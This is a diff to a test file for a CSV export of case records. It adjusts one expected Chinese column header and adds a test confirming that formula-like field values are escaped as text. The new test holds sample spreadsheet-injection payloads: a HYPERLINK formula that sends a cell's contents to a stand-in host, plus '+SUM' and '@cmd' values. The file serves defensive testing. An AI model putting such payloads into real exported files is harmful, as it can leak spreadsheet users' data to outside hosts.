@@ -59,7 +59,7 @@ describe('CSV for people', () => {
     const names = new Map(library.themes.map((t) => [t.id, t.name]));
     const rows = toRows('cases', library.cases, SITE, names);
     const [header] = parse(toCsv('cases', rows).slice(1), { to_line: 1 }) as string[][];
-    expect(header?.slice(0, 6)).toEqual(['编号', '网址', '地区名称', '标题', '行政区划代码', '单位']);
+    expect(header?.slice(0, 6)).toEqual(['编号', '网址', '地区名称', '案例名称', '行政区划代码', '单位']);
     expect(header?.every((h) => /\p{Script=Han}/u.test(h))).toBe(true);
     expect(codebook('reports').map((c) => c.header)).toEqual(expect.arrayContaining(['发言人姓名', '出处发布单位']));
     const parsed = byKey('cases', parse(toCsv('cases', rows).slice(1), { columns: true }) as Record<string, string>[]);
@@ -67,5 +67,17 @@ describe('CSV for people', () => {
       expect(parsed[i]?.['themeNames']?.split(LIST_SEPARATOR)).toEqual(entry.data.themes.map((id) => names.get(id)));
     });
     expect(JSON.parse(toJson(rows))[0]).toHaveProperty('themes');
+  });
+});
+
+describe('spreadsheet formulas', () => {
+  test('a title that is a formula reaches the CSV as text, not as a live formula', () => {
+    const [entry] = library.cases;
+    const title = '=HYPERLINK("https://x.example/?"&A2,"打开")';
+    const rows = toRows('cases', [{ ...entry, data: { ...entry?.data, title, summary: '+SUM(1,2)', organization: '@cmd' } } as never], SITE);
+    const parsed = byKey('cases', parse(toCsv('cases', rows).slice(1), { columns: true }) as Record<string, string>[]);
+    expect(parsed[0]?.['title']).toBe(`'${title}`);
+    expect(parsed[0]?.['summary']).toBe(`'+SUM(1,2)`);
+    expect(parsed[0]?.['organization']).toBe(`'@cmd`);
   });
 });
